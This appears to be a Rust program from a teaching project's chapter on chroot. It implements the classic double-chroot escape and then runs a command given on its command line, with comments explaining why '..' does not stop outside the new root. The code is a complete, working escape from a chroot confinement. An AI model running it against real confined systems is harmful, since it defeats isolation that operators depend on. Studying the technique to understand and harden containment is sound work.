//! `escape [COMMAND…]`: the oldest way out of a chroot. It is this chapter's attack, to be run inside.
//!
//! A process may stand outside of its own root: `chroot` changes what `/` means and moves nobody. And `..` stops at
//! the process's root only, because nothing else is marked as the end. So a process that may call `chroot` asks for
//! a smaller root, stays outside of it, and walks up. Nothing stops it before the real root of the machine.
//!
//! ```text
//!   / ◀───────── `..` again and again: the root that would stop it lies elsewhere
//!   └── rootfs         our root until now; the working directory stays here
//!       └── tmp        our new root
//! ```
//!
//! Man pages: `chroot(2)`, which describes this; `path_resolution(7)` at "..".
//! Exit status: that of the command; 1 when the root is still the same after the climb.

use coracle_ground::{Result, sys};
use std::io;
use std::os::unix::fs::MetadataExt;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, ExitCode};

/// More steps up than any path has; at the top, `..` stays where it is.
const STEPS: usize = 1000;

fn main() -> ExitCode {
    match escaped() {
        Ok(true) => eprintln!("escape: `/` is another directory now"),
        Ok(false) => {
            eprintln!("escape: `/` is still the same directory");
            return ExitCode::FAILURE;
        }
        Err(error) => {
            eprintln!("escape: {error}");
            return ExitCode::FAILURE;
        }
    }
    let words: Vec<String> = std::env::args().skip(1).collect();
    let Some((command, arguments)) = words.split_first() else { return ExitCode::SUCCESS };
    let error = Command::new(command).args(arguments).exec();
    eprintln!("escape: {command}: {error}");
    ExitCode::from(127)
}

/// Climbs, and says whether that led anywhere.
fn escaped() -> io::Result<bool> {
    let before = identity(Path::new("/"))?;
    climb()?;
    Ok(identity(Path::new("/"))? != before)
}

/// The whole attack.
fn climb() -> Result<()> {
    sys::chdir(Path::new("/"))?;
    // From here on the root is below us: we stand outside of it.
    sys::chroot(Path::new("tmp"))?;
    // `..` stops at the process's root only, and that is not on our way up.
    for _ in 0..STEPS {
        sys::chdir(Path::new(".."))?;
    }
    // At the top, take what is there for our root.
    sys::chroot(Path::new("."))
}

/// What makes a directory this one and no other: its filesystem's number, and its own in there.
fn identity(directory: &Path) -> io::Result<(u64, u64)> {
    let meta = directory.metadata()?;
    Ok((meta.dev(), meta.ino()))
}
